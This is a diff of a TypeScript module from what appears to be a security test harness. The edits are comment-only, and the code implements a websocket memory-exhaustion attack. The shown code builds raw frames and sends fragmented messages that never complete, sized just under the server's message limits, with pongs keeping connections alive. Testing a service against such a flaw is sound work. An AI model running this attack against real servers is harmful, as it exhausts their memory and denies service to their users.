@@ -2,7 +2,7 @@ import { randomBytes } from 'node:crypto'
 import type { Socket } from 'node:net'
 import { type Attack, rawConnection, sleep, type Target, taken, together } from './attack.ts'
 
-/** The header of a masked websocket frame. The mask is zero, so the body stays unchanged. */
+/** Encodes the header of a masked websocket frame. The mask is zero, so the body stays unchanged. */
 function frameHead(opcode: number, isFinal: boolean, length: number): Buffer {
   const first = (isFinal ? 0x80 : 0) | opcode
   const mask = [0, 0, 0, 0]
@@ -17,7 +17,7 @@ function frameHead(opcode: number, isFinal: boolean, length: number): Buffer {
 
 const [continuation, binary, pong] = [0, 2, 10] as const
 
-/** An upgraded connection, below any websocket library. */
+/** Opens a TCP connection and upgrades it to a websocket, without a websocket library. */
 async function upgraded(target: Target, path: string): Promise<Socket> {
   const connection = rawConnection(target)
   connection.write(
@@ -39,7 +39,10 @@ async function upgraded(target: Target, path: string): Promise<Socket> {
 
 const partBytes = 65_536
 
-/** Messages that never end: the server keeps their parts in memory, and pongs keep the client alive. */
+/**
+ * Sends messages that never end, so that the server keeps their parts in memory. Pongs keep the connections
+ * open.
+ */
 const incomplete = (path: (target: Target) => string, connections: number, bytes: number): Attack => ({
   finding: 4,
   documents: [],
@@ -62,7 +65,10 @@ const incomplete = (path: (target: Target) => string, connections: number, bytes
   },
 })
 
-/** Just below the limit of one message. */
+/**
+ * Sizes of the sent parts in bytes. They are just below the limits of one message before and after
+ * authentication.
+ */
 const unsignedBytes = 1_900_000
 const signedBytes = 15_000_000
 
